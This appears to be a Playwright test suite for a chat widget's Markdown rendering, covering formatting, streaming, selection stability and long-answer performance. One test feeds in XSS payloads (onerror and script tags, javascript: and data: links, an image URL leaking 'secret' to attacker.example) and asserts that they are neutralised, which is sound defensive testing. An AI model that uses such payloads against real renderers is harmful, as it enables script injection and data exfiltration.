"""Markdown is drawn as it comes, safely, and a long answer costs no more at its end."""

import pytest
from chat_page import ChatPage
from playwright.sync_api import expect
from stage import Stage

from chatwidget.providers import Gate

LONG_WORDS = 20_000


def test_markdown_becomes_elements(chat: ChatPage, stage: Stage) -> None:
    stage.plays.write(
        "all kinds",
        "# A title\n\nSome **bold**, *slanted* and `code`.\n\n- one\n- two\n\n",
        "| a | b |\n|---|---|\n| 1 | 2 |\n\n```python\nprint('hi')\n```\n\n",
        "A [link](https://example.org/) and ~~gone~~.",
    )
    chat.open().ask("all kinds")
    chat.expect_ready()
    answer = chat.answer
    expect(answer.locator("strong")).to_have_text("bold")
    expect(answer.locator("em")).to_have_text("slanted")
    expect(answer.locator("li")).to_have_text(["one", "two"])
    expect(answer.locator("td")).to_have_text(["1", "2"])
    expect(answer.locator("pre code")).to_have_text("print('hi')\n")
    expect(answer.locator("del")).to_have_text("gone")
    link = answer.locator("a")
    expect(link).to_have_attribute("href", "https://example.org/")
    expect(link).to_have_attribute("rel", "noopener noreferrer nofollow ugc")


def test_half_written_markdown_is_drawn_as_what_it_will_become(
    chat: ChatPage, stage: Stage
) -> None:
    gate = Gate()
    stage.plays.write("half", "This is **bo", gate, "ld** now.")
    chat.open().ask("half")
    expect(chat.answer).to_have_text("This is bo")
    expect(chat.answer.locator("strong")).to_have_text("bo")
    gate.open()
    chat.expect_answer("This is bold now.")


def test_what_a_model_writes_is_never_run_or_fetched(chat: ChatPage, stage: Stage) -> None:
    asked: list[str] = []
    chat.page.on("request", lambda request: asked.append(request.url))
    stage.plays.write(
        "attack",
        "<img src=x onerror=alert(1)><script>alert(2)</script>\n\n",
        "![x](https://attacker.example/?q=secret) [a](java\tscript:alert(1)) ",
        "[b](javascript:alert(1)) [c](data:text/html,x)",
    )
    chat.open().ask("attack")
    chat.expect_ready()
    expect(chat.answer).to_contain_text("<script>alert(2)</script>")
    assert chat.answer.locator("img, script, iframe").count() == 0
    assert not any("attacker.example" in url for url in asked)
    schemes = chat.answer.locator("a").evaluate_all("all => all.map(a => a.protocol)")
    assert set(schemes) <= {"https:", "http:"}


def test_a_selection_survives_what_comes_after_it(chat: ChatPage, stage: Stage) -> None:
    gate = Gate()
    stage.plays.write("select", "A paragraph to keep.\n\nAnd another", gate, " one.")
    chat.open().ask("select")
    expect(chat.answer).to_contain_text("And another")
    first = chat.answer.locator("p").first
    first.evaluate("e => { window.kept = e; e.dataset.kept = 'yes' }")
    gate.open()
    expect(chat.answer).to_contain_text("And another one.")
    assert first.evaluate("e => e === window.kept")


@pytest.mark.needs("cdp")
@pytest.mark.timeout(120)
def test_a_very_long_answer_has_no_long_task(chat: ChatPage, stage: Stage) -> None:
    paragraph = "Some *words* of a **long** answer, with `code` and a [link](https://example.org). "
    words = len(paragraph.split())
    blocks = [f"{paragraph * 6}\n\n" for _ in range(LONG_WORDS // (words * 6) + 1)]
    pieces = [block[at : at + 24] for block in blocks for at in range(0, len(block), 24)]
    stage.plays.write("very long", *pieces)
    chat.open()
    chat.page.evaluate(
        """() => {
          window.longest = 0;
          new PerformanceObserver(list => {
            for (const task of list.getEntries()) window.longest = Math.max(window.longest, task.duration);
          }).observe({ type: 'longtask' });
        }"""
    )
    chat.ask("very long")
    expect(chat.answers.last).not_to_have_attribute("aria-busy", "true", timeout=100_000)
    assert len((chat.answer.text_content() or "").split()) > LONG_WORDS * 0.9
    assert chat.page.evaluate("window.longest") <= 50
